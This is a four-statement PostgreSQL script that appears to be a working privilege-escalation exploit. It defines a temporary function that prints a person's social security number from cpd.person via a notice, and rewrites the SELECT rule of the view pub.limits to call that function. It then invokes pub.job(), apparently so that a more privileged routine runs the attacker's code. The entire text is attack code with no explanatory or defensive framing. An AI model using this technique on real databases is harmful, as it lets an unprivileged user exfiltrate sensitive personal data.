CREATE FUNCTION pg_temp.show() RETURNS integer LANGUAGE plpgsql AS
$$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM cpd.person WHERE id = 1); RETURN 1; END $$;
CREATE OR REPLACE RULE "_RETURN" AS ON SELECT TO pub.limits DO INSTEAD SELECT pg_temp.show() AS line;
SELECT pub.job();
